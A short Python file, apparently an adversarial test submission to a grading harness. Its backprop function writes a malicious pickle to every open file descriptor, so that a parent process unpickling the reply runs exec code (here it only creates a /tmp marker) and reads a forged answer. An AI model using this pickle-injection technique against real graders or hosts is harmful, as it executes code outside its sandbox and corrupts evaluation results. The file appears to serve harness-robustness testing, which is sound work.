"""Writes a pickle onto every pipe it can reach: a parent that unpickles replies would run its
code (create a marker file) and read the 'answer' the pickle makes."""

import os
import pickle
import struct

MARKER = "/tmp/mybackprop-attack-pickle-ran"


class Payload:
    def __reduce__(self):
        return (exec, (f"open({MARKER!r}, 'w').write('ran in the harness')",))


def backprop(problem):
    data = pickle.dumps(Payload())
    message = struct.pack("!Q", len(data)) + data
    for name in os.listdir("/proc/self/fd"):
        try:
            os.write(int(name), message)
        except OSError:
            pass
    os._exit(0)
